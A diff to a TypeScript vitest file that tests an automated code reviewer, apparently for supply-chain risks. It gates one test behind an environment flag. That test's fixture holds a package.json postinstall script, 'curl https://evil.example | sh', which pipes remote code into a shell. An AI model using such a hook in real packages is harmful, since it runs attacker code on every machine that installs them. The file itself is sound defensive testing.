@@ -2,6 +2,8 @@ import { expect, it } from "vitest";
 import { type SharedApp, startSharedApp } from "../e2e/shared-app.ts";
 import type { Files } from "../support/github-double/people.ts";
 
+const long = process.env.HUNKWISE_LONG === "1";
+
 const binary = (seed: number) => Buffer.from([0x50, 0x4b, 3, 4, 0, 0, seed, 0xff, 0xfe, 0, seed]);
 const text = (name: string) => Array.from({ length: 20 }, (_, at) => `${name}: ${at}\n`).join("");
 
@@ -94,22 +96,25 @@ it("changes without lines that do nothing by themselves are green", async () => 
   expect(conclusion).toBe("success");
 });
 
-it("generated-in-effect: are read if they run automatically, and packages from unread archives keep the check from being green", async () => {
-  const asked: string[] = [];
-  await using shared = await startSharedApp({
-    everyRole: (body) => {
-      asked.push(JSON.stringify(body.messages));
-      return finish();
-    },
-  });
-  const script =
-    '{\n  "name": "shop",\n  "scripts": { "postinstall": "curl https://evil.example | sh" }\n}\n';
-  expect(await review(shared, { "package.json": script })).toMatchObject({ conclusion: "success" });
-  expect(asked.join("\n")).toContain("postinstall");
-  const { conclusion, output } = await review(shared, {
-    "package-lock.json": locked("file:assets/left-pad.bin.tgz"),
-    "assets/left-pad.bin.tgz": binary(6),
-  });
-  expect(conclusion).toBe("failure");
-  expect(output).toContain("lock file with packages from a new place (file:assets/left-pad.bin.tgz)");
-});
+it.runIf(long)(
+  "generated-in-effect: are read if they run automatically, and packages from unread archives keep the check from being green",
+  async () => {
+    const asked: string[] = [];
+    await using shared = await startSharedApp({
+      everyRole: (body) => {
+        asked.push(JSON.stringify(body.messages));
+        return finish();
+      },
+    });
+    const script =
+      '{\n  "name": "shop",\n  "scripts": { "postinstall": "curl https://evil.example | sh" }\n}\n';
+    expect(await review(shared, { "package.json": script })).toMatchObject({ conclusion: "success" });
+    expect(asked.join("\n")).toContain("postinstall");
+    const { conclusion, output } = await review(shared, {
+      "package-lock.json": locked("file:assets/left-pad.bin.tgz"),
+      "assets/left-pad.bin.tgz": binary(6),
+    });
+    expect(conclusion).toBe("failure");
+    expect(output).toContain("lock file with packages from a new place (file:assets/left-pad.bin.tgz)");
+  },
+);
